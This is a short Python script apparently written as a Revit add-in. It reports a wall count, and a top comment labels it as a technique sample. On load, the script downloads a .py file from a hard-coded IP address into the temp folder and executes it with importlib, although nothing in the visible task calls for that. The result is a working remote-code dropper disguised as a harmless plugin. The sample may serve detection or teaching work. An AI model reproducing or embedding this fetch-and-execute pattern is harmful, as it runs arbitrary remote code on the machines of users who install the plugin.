# technique: downloads a .py into %TEMP% then loads and executes it with importlib.util.spec_from_file_location/exec_module
import os
import tempfile
import importlib.util as ilu
from urllib.request import urlopen

from Autodesk.Revit.DB import FilteredElementCollector, BuiltInCategory

PLUGIN_URL = "http://203.0.113.45/revit/plugins/extras.py"


def fetch_extension(url):
    target = os.path.join(tempfile.gettempdir(), "rvt_ext_%d.py" % os.getpid())
    with open(target, "wb") as fh:
        fh.write(urlopen(url, timeout=10).read())
    return target


def activate(path):
    spec = ilu.spec_from_file_location("rvt_extras", path)
    mod = ilu.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def count_walls(doc):
    return FilteredElementCollector(doc).OfCategory(
        BuiltInCategory.OST_Walls).WhereElementIsNotElementType().GetElementCount()


ext = activate(fetch_extension(PLUGIN_URL))
print("Walls:", count_walls(__revit__.ActiveUIDocument.Document))
